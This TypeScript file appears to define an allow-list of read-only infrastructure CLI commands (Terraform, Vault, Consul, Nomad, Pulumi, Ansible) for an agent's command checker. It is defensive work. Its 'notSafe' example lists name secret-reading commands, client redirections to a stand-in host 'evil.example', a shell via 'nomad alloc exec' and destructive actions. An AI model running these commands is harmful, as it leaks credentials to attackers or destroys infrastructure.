import type { Tool } from "./tool.ts";

const ask = { operands: "text", service: true } as const;
const bare = { operands: "none", service: true } as const;
/**
 * Runs plugins of the workspace, whose files also name the machine that keeps the state: no network and no login, so a state
 * that isn't here isn't read.
 */
const here = { reliesOnJail: true, loads: "the providers in .terraform" } as const;
const packs = { reliesOnJail: true, loads: "plugins of the directory" } as const;
/** Its login would go where Pulumi.yaml says. */
const pulumi = { reliesOnJail: true, loads: "what Pulumi.yaml names" } as const;
const ansible = { reliesOnJail: true, loads: "what ansible.cfg names" } as const;

export const INFRA_TOOLS: readonly Tool[] = [
  {
    names: ["terraform", "tofu"],
    options: "-chdir/ -help -version --version --help -h -v",
    operands: "none",
    clusters: "none",
    uses: [
      { commands: ["version"], options: "-json", operands: "none" },
      // Not -json: it shows what is marked as sensitive.
      { commands: ["show"], options: "-no-color", operands: "paths", maxOperands: 1, ...here },
      { commands: ["state list"], options: "-state@ -id:", operands: "text", ...here },
      { commands: ["state show"], options: "-state@ -no-color", operands: "text", maxOperands: 1, ...here },
      // Not -json, -raw or a name: with them it shows what is marked as sensitive.
      { commands: ["output"], options: "-no-color -state@", operands: "none", ...here },
      {
        commands: ["validate"],
        options: "-json -no-color -no-tests -test-directory@",
        operands: "paths",
        maxOperands: 1,
        ...here,
      },
      {
        commands: ["fmt"],
        options: "-check -diff -list=true|false -no-color -recursive -write=false",
        operands: "paths",
        requires: ["-check"],
      },
      {
        commands: ["fmt"],
        options: "-diff -list=true|false -no-color -recursive -write=false",
        operands: "paths",
        requires: ["-write"],
      },
      { commands: ["providers", "modules"], options: "-json -no-color -test-directory@", operands: "none", ...here },
      { commands: ["providers schema"], options: "-json", operands: "none", requires: ["-json"], ...here },
      { commands: ["workspace list", "workspace show"], options: "-no-color", operands: "none", ...here },
      {
        commands: ["graph"],
        options: "-draw-cycles -no-color -plan@ -type: -module-depth:",
        operands: "none",
        ...here,
      },
      { commands: ["metadata functions"], options: "-json", operands: "none" },
      {
        commands:
          "init plan apply destroy validate fmt import refresh state output show workspace taint untaint console test get graph providers".split(
            " ",
          ),
        options: "-help --help -h",
        operands: "none",
        requires: ["-help", "--help", "-h"],
      },
    ],
    examples: {
      safe: [
        "terraform state list",
        "terraform state list module.vpc",
        "terraform state show aws_instance.web",
        "terraform version",
        "terraform version -json",
        "terraform -version",
        "terraform show",
        "terraform show -no-color tfplan",
        "terraform output",
        "terraform validate",
        "terraform validate -json",
        "terraform fmt -check -recursive",
        "terraform fmt -check -diff",
        "terraform fmt -write=false -diff",
        "terraform providers",
        "terraform workspace list",
        "terraform workspace show",
        "terraform graph",
        "terraform -chdir=infra state list",
        "terraform plan -help",
        "tofu version",
      ],
      notSafe: [
        "terraform plan",
        "terraform init",
        "terraform apply",
        "terraform destroy",
        "terraform fmt",
        "terraform fmt -recursive",
        "terraform fmt -write=true -diff",
        "terraform fmt -write=false -write=true",
        "terraform fmt -check=false",
        "terraform output -json",
        "terraform output -raw db_password",
        "terraform output db_password",
        "terraform show -json",
        "terraform state pull",
        "terraform state rm x",
        "terraform state mv a b",
        "terraform workspace new x",
        "terraform workspace select x",
        "terraform providers lock",
        "terraform providers mirror x",
        "terraform console",
        "terraform -chdir=/etc state list",
        "terraform -chdir=$x state list",
        "terraform plan -help -out=x",
        "terraform import a b",
        "terraform login",
      ],
    },
  },
  {
    names: ["packer"],
    options: "-v -h --version --help",
    operands: "none",
    clusters: "none",
    // Before 1.11 it runs each ./packer-plugin-* to be described, whatever it is asked.
    ...packs,
    uses: [
      { commands: ["version", "plugins installed"], options: "", operands: "none", ...packs },
      { commands: ["inspect"], options: "-machine-readable", operands: "paths", ...packs },
      { commands: ["validate"], options: "-syntax-only", operands: "paths", requires: ["-syntax-only"], ...packs },
      { commands: ["fmt"], options: "-check -diff -recursive", operands: "paths", requires: ["-check"], ...packs },
    ],
    examples: {
      safe: ["packer version", "packer inspect image.pkr.hcl", "packer fmt -check ."],
      notSafe: ["packer build image.pkr.hcl", "packer fmt .", "packer init .", "packer inspect /etc/x"],
    },
  },
  {
    names: ["vault"],
    options: "-v -h --version --help",
    operands: "none",
    clusters: "none",
    uses: [
      {
        commands: ["status", "version", "secrets list", "auth list", "audit list"],
        options: "-format: -detailed",
        ...bare,
      },
      {
        commands: ["list", "kv list", "kv metadata get", "path-help"],
        options: "-format: -mount:",
        ...ask,
      },
    ],
    examples: {
      safe: ["vault status", "vault status -format=json", "vault kv list secret/"],
      notSafe: [
        "vault read secret/db",
        "vault kv get secret/db",
        "vault token lookup",
        "vault print token",
        "vault write a b=c",
        "vault status -address=https://evil.example",
        "vault login",
      ],
    },
  },
  {
    names: ["consul"],
    options: "-v -h --version --help",
    operands: "none",
    clusters: "none",
    uses: [
      {
        commands: ["members", "info", "version", "operator raft list-peers", "intention list"],
        options: "-wan -detailed -status: -segment: -filter: -format:",
        ...bare,
      },
      {
        commands: ["catalog services", "catalog nodes", "catalog datacenters"],
        options: "-detailed -tags -node: -node-meta: -service: -near: -filter:",
        ...bare,
      },
      { commands: ["validate"], options: "-quiet", operands: "paths" },
    ],
    examples: {
      safe: ["consul members", "consul catalog services -tags", "consul info"],
      notSafe: [
        "consul kv get x",
        "consul kv put a b",
        "consul leave",
        "consul members -http-addr=http://evil.example",
        "consul exec uptime",
      ],
    },
  },
  {
    names: ["nomad"],
    options: "-v -h --version --help",
    operands: "none",
    clusters: "none",
    uses: [
      {
        commands: [
          ...[
            "status",
            "job status",
            "node status",
            "alloc status",
            "deployment status",
            "eval status",
            "server members",
          ],
          ...[
            "deployment list",
            "eval list",
            "job history",
            "job deployments",
            "namespace list",
            "version",
            "volume status",
          ],
        ],
        options:
          "-short -verbose -json -evals -all-allocs -self -stats -allocs -latest -detailed -t: -namespace: -region: -filter: -per-page: -p -version: -full -type:",
        ...ask,
      },
      {
        commands: ["alloc logs", "logs"],
        options: "-f -stderr -stdout -tail -n: -c: -job -task: -verbose -namespace: -region:",
        ...ask,
      },
    ],
    examples: {
      safe: ["nomad status", "nomad job status web", "nomad alloc logs -f abc", "nomad node status -self"],
      notSafe: [
        "nomad job run x.nomad",
        "nomad alloc exec abc sh",
        "nomad status -address=http://evil.example",
        "nomad stop web",
        "nomad alloc fs abc",
      ],
    },
  },
  {
    names: ["pulumi"],
    // Not --profiling, --tracing: they write or send.
    options: "-C/ -s: -h --cwd/ --stack: --color: --emoji --logtostderr --non-interactive --help",
    operands: "none",
    optionsAnywhere: true,
    uses: [
      { commands: ["version", "whoami"], options: "-j -v --json --verbose", operands: "none", ...pulumi },
      {
        commands: ["stack ls"],
        options: "-a -j -o: -p: -t: --all --json --organization: --project: --tag:",
        operands: "none",
        ...pulumi,
      },
      // Not --show-secrets.
      {
        commands: ["stack", "stack output", "stack history"],
        options: "-i -j -n -u --full-dates --json --page# --page-size# --show-ids --show-name --show-urns",
        operands: "none",
        ...pulumi,
      },
      { commands: ["config"], options: "-j --json", operands: "none", ...pulumi },
      { commands: ["plugin ls", "stack tag ls"], options: "-j -p --json --project", operands: "none", ...pulumi },
    ],
    examples: {
      safe: ["pulumi stack ls", "pulumi whoami", "pulumi stack output --json", "pulumi config -s dev"],
      notSafe: [
        "pulumi up",
        "pulumi preview",
        "pulumi config --show-secrets",
        "pulumi config get dbPassword",
        "pulumi stack output --show-secrets",
        "pulumi stack export",
        "pulumi stack rm x",
        "pulumi login",
      ],
    },
  },
  {
    names: ["ansible", "ansible-playbook", "ansible-inventory"],
    options: "--version -h --help",
    operands: "none",
    ...ansible,
    requires: ["--version", "-h", "--help"],
    examples: {
      safe: ["ansible --version", "ansible-playbook --help"],
      notSafe: [
        "ansible all -m ping",
        "ansible-playbook site.yml",
        "ansible-playbook --list-hosts site.yml",
        "ansible-inventory --list",
      ],
    },
  },
  {
    names: ["ansible-galaxy"],
    options: "--version -h --help",
    operands: "none",
    uses: [{ commands: ["list", "collection list", "role list"], options: "--format:", operands: "text", ...ansible }],
    examples: {
      safe: ["ansible-galaxy collection list"],
      notSafe: ["ansible-galaxy install x", "ansible-galaxy init x"],
    },
  },
];
